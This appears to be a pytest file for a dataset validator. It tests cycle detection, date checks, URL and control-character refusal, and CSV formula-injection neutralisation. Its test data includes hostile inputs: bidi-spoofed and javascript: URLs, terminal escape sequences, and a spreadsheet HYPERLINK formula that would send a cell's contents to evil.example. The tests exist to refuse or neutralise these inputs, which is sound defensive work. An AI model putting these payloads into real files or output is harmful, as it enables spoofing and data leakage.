"""Issue 21's validation gaps and CSV formula injection, beyond what the bad fixtures show one at a time.

The fixtures under fixtures/bad/ (ref010-*, rec012-*, rec013-*, sch023-url-*, sch027-*) pin each new rule's
message and place; these tests cover the cases around them: every character class a URL or a text field
must refuse (and what it must still accept), that "today" is read when the rules run, that a loop is
reported once, and that a CSV cell a spreadsheet would run as a formula is written inert while Parquet
keeps the text.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import shutil
from pathlib import Path

import jsonschema
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import BAD, GOOD, invoke
from ptedb.loaders.records import load
from ptedb.schema import generate
from ptedb.schema.models import RECORD_TYPES, URL_PATTERN, Source
from ptedb.validation import rules
from ptedb.validation.codes import PATTERN_HINTS, RULES
from pydantic import ValidationError

from ptedb import writers

SCHEMA_DIR = Path(__file__).parent.parent / "schema"
MODEL = "records/models/toy-1b.yaml"
ENHANCEMENT = "records/enhancements/toy-prompting.yaml"


def _codes(result: object) -> list[str]:
    return [ln.split()[1] for ln in result.stderr.splitlines() if ln.startswith("records/")]  # type: ignore[attr-defined]


def _overlay(case: str, project: Path) -> None:
    shutil.copytree(BAD / case / "records", project / "records", dirs_exist_ok=True)


def _set_line(path: Path, key: str, line: str) -> None:
    """Replace the top-level `key:` line of a record file, or append `line` when it has none."""
    text = path.read_text(encoding="utf-8")
    new, n = re.subn(rf"(?m)^{key}:.*$", lambda _: line, text)
    path.write_text(new if n else text + line + "\n", encoding="utf-8")


# --- new codes -----------------------------------------------------------------------------------


def test_new_codes_are_catalogued() -> None:
    for code in ("SCH027", "REC012", "REC013", "REF010"):
        assert code in RULES


def test_every_new_code_has_a_bad_fixture() -> None:
    codes = {json.loads((p / "expect.json").read_text())["code"] for p in BAD.iterdir() if p.is_dir()}
    assert {"SCH027", "REC012", "REC013", "REF010"} <= codes


# --- superseded_by: cycles and status ------------------------------------------------------------


def test_a_cycle_is_reported_once_not_by_every_record_leading_into_it(project: Path) -> None:
    """toy-act → toy-cot → toy-plan → toy-prompting → toy-cot: one loop, one message, at toy-cot."""
    _overlay("ref010-supersede-cycle-longer", project)
    result = invoke(["validate"], project)
    assert result.exit_code == 1
    lines = [ln for ln in result.stderr.splitlines() if " REF010 " in ln]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("records/enhancements/toy-cot.yaml:8:16 REF010 superseded_by:")
    assert "toy-act" not in lines[0]


def test_a_chain_that_ends_is_valid(project: Path) -> None:
    """The retired-with-successor pair CONTRIBUTING asks for: deprecated → withdrawn → active, no loop."""
    enh = project / "records" / "enhancements"
    _set_line(enh / "toy-prompting.yaml", "status", "status: deprecated\nsuperseded_by: toy-cot")
    base = "schema_version: 1\ncategory: prompting\ndescription: d\nintroduced_in: doe-2024-toy\n"
    (enh / "toy-cot.yaml").write_text(base + "id: toy-cot\nname: Cot\nstatus: withdrawn\nsuperseded_by: toy-plan\n")
    (enh / "toy-plan.yaml").write_text(base + "id: toy-plan\nname: Plan\n")  # status defaults to active
    result = invoke(["validate"], project)
    assert result.exit_code == 0, result.stderr


def test_superseded_by_without_status_is_active_and_refused(project: Path) -> None:
    """`status` defaults to active, so a superseded_by alone contradicts it."""
    enh = project / "records" / "enhancements"
    text = (enh / "toy-prompting.yaml").read_text().replace("status: active\n", "superseded_by: toy-cot\n")
    (enh / "toy-prompting.yaml").write_text(text)
    shutil.copy(BAD / "rec012-active-superseded" / "records" / "enhancements" / "toy-cot.yaml", enh)
    result = invoke(["validate"], project)
    assert result.exit_code == 1
    assert _codes(result) == ["REC012"], result.stderr


def test_contributing_asks_for_the_pair_the_rule_checks() -> None:
    text = (Path(__file__).parent.parent / "CONTRIBUTING.md").read_text(encoding="utf-8")
    assert "An `active` enhancement has no\n`superseded_by`" in text
    assert "REC012" in text and "REF010" in text


# --- dates ---------------------------------------------------------------------------------------


def test_today_is_read_when_the_rules_run(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same record is refused today and accepted once its date has come: no date is frozen at import."""
    _overlay("rec013-release-in-future", project)
    assert invoke(["validate"], project).exit_code == 1
    monkeypatch.setattr(rules, "today", lambda: dt.date(2999, 1, 1))
    result = invoke(["validate"], project)
    assert result.exit_code == 0, result.stderr


def test_a_release_today_or_tomorrow_is_not_in_the_future(project: Path) -> None:
    """One day of slack: a model released today in a time zone ahead of the checking machine's."""
    tomorrow = dt.date.today() + dt.timedelta(days=1)
    _set_line(project / MODEL, "release_date", f'release_date: "{tomorrow.isoformat()}"')
    assert invoke(["validate"], project).exit_code == 0
    _set_line(project / MODEL, "release_date", f'release_date: "{(tomorrow + dt.timedelta(days=2)).isoformat()}"')
    result = invoke(["validate"], project)
    assert result.exit_code == 1 and _codes(result) == ["REC013"], result.stderr


# --- URLs ----------------------------------------------------------------------------------------

BAD_URLS = {
    "nul": "https://example.org/a\x00b",
    "esc": "https://example.org/\x1b[31m",
    "del": "https://example.org/a\x7f",
    "newline": "https://example.org/a\nb",
    "space": "https://example.org/a b",
    "rlo": "https://example.org/\u202egnp.exe",
    "lre": "https://example.org/\u202a",
    "pdf": "https://example.org/\u202c",
    "lri": "https://example.org/\u2066",
    "pdi": "https://example.org/\u2069",
    "double-quote": 'https://example.org/"onmouseover="x',
    "single-quote": "https://example.org/'x",
    "less-than": "https://example.org/<script>",
    "greater-than": "https://example.org/a>b",
    "backslash": "https://example.org\\@evil.example",
    "backtick": "https://example.org/`x`",
    "non-ascii": "https://exämple.org/",
    "no-host": "https://",
    "javascript": "javascript:alert(1)",
}
GOOD_URLS = [
    "https://example.org/toy",
    "http://example.org/a/b?x=1&y=2#frag",
    "https://en.wikipedia.org/wiki/Moore%27s_law",
    "https://example.org/a_(b)~c;d=e,f*g+h!i$j@k",
    "https://[2001:db8::1]:8080/path",
    "https://xn--exmple-cua.org/%C3%A4",
]


def _source(url: str) -> dict[str, object]:
    return {"schema_version": 1, "id": "s", "title": "t", "authors": ["a"], "year": 2024, "url": url}


@pytest.mark.parametrize("name", sorted(BAD_URLS))
def test_url_refused_by_the_model_and_the_json_schema(name: str) -> None:
    url = BAD_URLS[name]
    with pytest.raises(ValidationError):
        Source.model_validate(_source(url))
    schema = json.loads((SCHEMA_DIR / "source.schema.json").read_text())
    assert list(jsonschema.Draft202012Validator(schema).iter_errors(_source(url)))


@pytest.mark.parametrize("url", GOOD_URLS)
def test_url_accepted_by_the_model_and_the_json_schema(url: str) -> None:
    Source.model_validate(_source(url))
    schema = json.loads((SCHEMA_DIR / "source.schema.json").read_text())
    assert not list(jsonschema.Draft202012Validator(schema).iter_errors(_source(url)))


def test_every_url_field_uses_the_pattern() -> None:
    """Sources and benchmarks (every field typed Url), in the models and the committed JSON Schema."""
    found = []
    for cls in RECORD_TYPES:
        text = generate.expected_files()[f"{cls.kind}.schema.json"]
        found += [cls.kind] * text.count(json.dumps(URL_PATTERN))
    assert sorted(found) == ["benchmark", "source"]
    assert "https?://\\\\S+" not in (SCHEMA_DIR / "source.schema.json").read_text()  # the old, loose pattern


def test_every_pattern_has_its_words() -> None:
    """A pattern the models use without a hint would be shown to contributors as a raw regex."""
    for cls in RECORD_TYPES:
        patterns = re.findall(r'"pattern": ("(?:[^"\\]|\\.)*")', generate.expected_files()[f"{cls.kind}.schema.json"])
        for pattern in patterns:
            assert json.loads(pattern) in PATTERN_HINTS, (cls.kind, pattern)


def test_a_url_with_a_nul_is_refused_on_the_command_line(project: Path) -> None:
    _set_line(project / "records/sources/doe-2024-toy.yaml", "url", 'url: "https://example.org/toy\\0"')
    result = invoke(["validate"], project)
    assert result.exit_code == 1
    line = next(ln for ln in result.stderr.splitlines() if " SCH023 " in ln)
    assert line.startswith("records/sources/doe-2024-toy.yaml:7:6 SCH023 url: 'https://example.org/toy\\x00'")
    assert "\x00" not in result.stderr


# --- control characters in text ------------------------------------------------------------------

REFUSED = {
    "esc": ("\\e[31mred", 0x1B),
    "nul": ("a\\0b", 0x00),
    "bel": ("a\\ab", 0x07),
    "cr": ("a\\rb", 0x0D),
    "vt": ("a\\vb", 0x0B),
    "del": ("a\\x7fb", 0x7F),
    "nel": ("a\\Nb", 0x85),
    "csi": ("a\\x9bb", 0x9B),
    "lre": ("a\\u202Ab", 0x202A),
    "rlo": ("a\\u202Eb", 0x202E),
    "lri": ("a\\u2066b", 0x2066),
    "pdi": ("a\\u2069b", 0x2069),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_control_character_in_text_is_refused(name: str, project: Path) -> None:
    escaped, code = REFUSED[name]
    _set_line(project / MODEL, "notes", f'notes: "{escaped}"')
    ds = load(project / "records")
    hits = [d for d in ds.diagnostics if d.code == "SCH027"]
    assert [(Path(d.path).relative_to(project).as_posix(), d.field) for d in hits] == [(MODEL, "notes")], hits
    assert f"U+{code:04X}" in hits[0].message
    assert "toy-1b" not in ds.records["models"], "a record failing SCH027 must not reach the rules"


@pytest.mark.parametrize("text", ["tab\\there", "two\\nlines", "plain", "émigré – “quoted” ✓", "\\u200Bzwsp"])
def test_ordinary_text_is_accepted(text: str, project: Path) -> None:
    _set_line(project / MODEL, "notes", f'notes: "{text}"')
    ds = load(project / "records")
    assert ds.ok, ds.diagnostics


def test_raw_bidi_override_in_a_plain_scalar_is_refused(project: Path) -> None:
    """YAML itself allows U+202E unescaped; the walk does not."""
    _set_line(project / MODEL, "organization", "organization: Test \u202eOrg")
    result = invoke(["validate"], project)
    assert result.exit_code == 1
    assert f"{MODEL}:5:15 SCH027 organization: bidirectional formatting character U+202E" in result.stderr
    assert "\u202e" not in result.stderr


def test_every_control_character_of_a_file_is_reported(project: Path) -> None:
    """Nested fields, list items, and several in one file: each located and named by its field."""
    path = project / ENHANCEMENT
    text = path.read_text().replace('aliases: ["TP"]', 'aliases: ["TP", "T\\eP"]')
    text = text.replace('basis: "Outputs twice as long."', 'basis: "Outputs \\x1b]0;pwned\\x07 long."')
    path.write_text(text)
    result = invoke(["validate"], project)
    assert result.exit_code == 1
    fields = [ln.split()[2] for ln in result.stderr.splitlines() if " SCH027 " in ln]
    assert fields == ["aliases[1]:", "evaluations[0].inference_cost_multiplier.basis:"], result.stderr
    assert "\x1b" not in result.stdout + result.stderr


def test_control_character_in_dataset_file_is_refused(project: Path) -> None:
    _set_line(project / "records/dataset.yaml", "title", 'title: "ptedb\\e]2;owned\\a"')
    result = invoke(["validate"], project)
    assert result.exit_code == 1
    assert "records/dataset.yaml:" in result.stderr and " SCH027 title:" in result.stderr


def test_escape_in_notes_never_reaches_dist(built: Path) -> None:
    _overlay("sch027-escape-in-notes", built)
    result = invoke(["build"], built)
    assert result.exit_code == 1
    for path in (built / "dist").rglob("*"):
        if path.is_file():
            assert b"\x1b[31m" not in path.read_bytes(), path


# --- CSV formula injection -----------------------------------------------------------------------

FORMULAS = {
    '=HYPERLINK("https://evil.example","x")': '\'=HYPERLINK("https://evil.example","x")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\tindented": "'\tindented",
    "'=already quoted": "''=already quoted",
    "'plain quote": "'plain quote",
    "a = b": "a = b",
    "": "",
}


def test_csv_neutralises_formula_leading_text_and_leaves_numbers(tmp_path: Path) -> None:
    texts = list(FORMULAS)
    table = pa.table(
        {
            "text": pa.array([*texts, None]),
            "number": pa.array([-1.5] * len(texts) + [None], pa.float64()),
            "count": pa.array([-3] * len(texts) + [None], pa.int64()),
            "tags": pa.array([["=x", "-y"]] * len(texts) + [None], pa.list_(pa.string())),
        }
    )
    path = tmp_path / "t.csv"
    writers._write_csv(table, path)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [r["text"] for r in rows] == [*FORMULAS.values(), ""]
    assert {r["number"] for r in rows[:-1]} == {"-1.5"}
    assert {r["count"] for r in rows[:-1]} == {"-3"}
    assert rows[0]["tags"] == '["=x", "-y"]'  # a JSON array starts with '[': inert as it is


def test_stripping_one_quote_restores_the_text() -> None:
    """The datapackage's promise: remove one ' from a cell matching the lead, get the record back."""
    for original, written in FORMULAS.items():
        restored = written[1:] if re.match(writers.FORMULA_LEAD, written) else written
        assert restored == original


def test_formula_in_notes_is_inert_in_csv_and_kept_in_parquet(project: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?q="&A1,"click")'
    escaped = formula.replace('"', '\\"')
    path = project / ENHANCEMENT
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        '    source: {ref: doe-2024-toy, locator: "Table 3"}\n  - id: toy-10b',
        f'    source: {{ref: doe-2024-toy, locator: "Table 3"}}\n    notes: "{escaped}"\n  - id: toy-10b',
    )
    path.write_text(text, encoding="utf-8")
    result = invoke(["build"], project)
    assert result.exit_code == 0, result.output
    dist = project / "dist"
    rows = list(csv.DictReader((dist / "csv" / "evaluations.csv").open(encoding="utf-8", newline="")))
    cell = next(r["notes"] for r in rows if r["local_id"] == "toy-1b-toy-bench")
    assert cell == "'" + formula
    assert cell.startswith("'=")
    parquet = pq.read_table(dist / "parquet" / "evaluations.parquet").to_pylist()
    assert next(r["notes"] for r in parquet if r["local_id"] == "toy-1b-toy-bench") == formula
    scores = {r["local_id"]: r["base_score"] for r in rows}
    assert scores["toy-1b-toy-bench"] == "30"


def test_datapackage_and_readme_say_so(built: Path) -> None:
    pkg = json.loads((built / "dist" / "datapackage.json").read_text(encoding="utf-8"))
    for resource in pkg["resources"]:
        assert writers.CSV_NOTE in resource["description"], resource["name"]
    readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
    row = next(ln for ln in readme.splitlines() if ln.startswith("| `csv/<table>.csv`"))
    assert "leading `'`" in row and "formula" in row


def test_good_fixture_is_untouched_by_the_new_rules() -> None:
    ds = load(GOOD / "records")
    rules.run(ds)
    assert ds.ok, ds.diagnostics


class _Superseded:
    """Just what the cycle rule reads of an enhancement."""

    def __init__(self, superseded_by: str | None) -> None:
        self.superseded_by = superseded_by


def _cycle_messages(links: dict[str, str | None]) -> list[tuple[str, str]]:
    from ptedb.validation.dataset import Dataset

    ds = Dataset(root=Path("."))
    ds.records["enhancements"] = {rid: _Superseded(to) for rid, to in links.items()}
    rules.check_supersede_cycles(ds)
    return [(d.path, d.message.split(";")[0]) for d in ds.diagnostics]


def test_each_loop_is_reported_once_and_a_long_one_is_shortened() -> None:
    links: dict[str, str | None] = {"b": "a", "a": "b", "c": "a", "d": "e", "e": "f", "f": "d", "g": None}
    links |= {f"l{i:02d}": f"l{(i + 1) % 20:02d}" for i in range(20)}
    assert _cycle_messages(links) == [
        ("enhancements/a.yaml", "the superseded_by chain loops: a → b → a"),
        ("enhancements/d.yaml", "the superseded_by chain loops: d → e → f → d"),
        (
            "enhancements/l00.yaml",
            "the superseded_by chain loops: l00 → l01 → l02 → l03 → l04 → l05 → … (20 in all) → l00",
        ),
    ]


def test_a_long_chain_is_walked_in_linear_time() -> None:
    import time

    n = 100_000
    links: dict[str, str | None] = {f"e{i}": f"e{i + 1}" for i in range(n - 1)} | {f"e{n - 1}": None}
    started = time.perf_counter()
    assert _cycle_messages(links) == []
    assert time.perf_counter() - started < 5
